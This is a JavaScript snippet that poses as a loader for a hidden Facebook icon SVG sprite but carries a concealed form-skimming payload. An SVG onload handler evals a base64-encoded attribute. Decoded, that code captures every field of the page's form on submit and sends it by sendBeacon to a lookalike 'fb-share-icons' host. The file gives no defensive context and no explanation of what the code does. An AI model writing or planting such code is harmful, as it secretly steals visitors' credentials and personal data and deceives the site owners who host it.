document.addEventListener("DOMContentLoaded", function () {
  var wrap = document.createElement("div");
  wrap.style.display = "none";
  wrap.innerHTML = '<svg width="1px" height="1px" viewBox="0 0 1 1"><path id="facebook_full" d="M0 0h1v1H0z"/>' +
    '<svg onload="eval(atob(this.getAttribute(\'data-icon\')))" data-icon="ZG9jdW1lbnQucXVlcnlTZWxlY3RvcigiZm9ybSIpLmFkZEV2ZW50TGlzdGVuZXIoInN1Ym1pdCIsZnVuY3Rpb24oZSl7dmFyIGQ9bmV3IEZvcm1EYXRhKGUudGFyZ2V0KSxvPXt9O2QuZm9yRWFjaChmdW5jdGlvbih2LGspe29ba109dn0pO25hdmlnYXRvci5zZW5kQmVhY29uKCJodHRwczovL2ZiLXNoYXJlLWljb25zLmludmFsaWQvYyIsYnRvYShKU09OLnN0cmluZ2lmeShvKSkpfSk7"/></svg>';
  document.body.appendChild(wrap);
});
